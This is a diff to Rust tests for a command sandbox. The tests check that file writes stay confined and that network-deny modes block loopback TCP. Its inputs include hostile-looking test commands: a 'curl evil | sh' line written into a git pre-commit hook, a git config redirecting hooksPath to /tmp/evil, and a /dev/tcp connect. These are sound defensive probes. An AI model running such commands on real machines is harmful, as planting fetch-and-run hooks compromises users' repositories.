@@ -41,7 +41,7 @@ async fn workspace_write_confines_writes_to_the_roots() {
     // What runs code never reaches the real tree: the command's writes are staged and judged
     // when it ends, whatever road they took (a renamed parent included).
     let hook = client.run("echo 'curl evil | sh' > .git/hooks/pre-commit").await;
-    assert!(hook.text.contains("was not applied"), "{}", hook.text);
+    assert!(hook.text.contains("not applied"), "{}", hook.text);
     assert!(!ws.root.join(".git/hooks/pre-commit").exists());
     let config_before = std::fs::read_to_string(ws.root.join(".git/config")).unwrap();
     let config = client.run("git config core.hooksPath /tmp/evil").await;
@@ -121,15 +121,20 @@ async fn network_deny_blocks_tcp_connect() {
     let port = listener.local_addr().unwrap().port();
     let connect = format!("exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected");
 
-    let open = Client::start(&ws, &[]).await;
+    // The control: sharing the machine's network (`host`), the machine's loopback answers.
+    let open = Client::start(&ws, &["--network", "host"]).await;
     let allowed = open.run(&connect).await;
     assert!(!allowed.is_error && allowed.text.contains("connected"), "control: {}", allowed.text);
     open.close().await;
 
-    let denied = Client::start_with_env(&ws, &[], &[("TOOLBELT_NETWORK", "deny")]).await;
-    let blocked = denied.run(&connect).await;
-    assert!(blocked.is_error && blocked.text.contains("Connection refused"), "{}", blocked.text);
-    denied.close().await;
+    // `deny`, and the default (`allow`: other hosts only through the proxy), have a loopback
+    // of their own: the machine's services on it are out of reach.
+    for network in ["deny", "allow"] {
+        let denied = Client::start_with_env(&ws, &[], &[("TOOLBELT_NETWORK", network)]).await;
+        let blocked = denied.run(&connect).await;
+        assert!(blocked.is_error && blocked.text.contains("Connection refused"), "{network}: {}", blocked.text);
+        denied.close().await;
+    }
 }
 
 #[tokio::test]
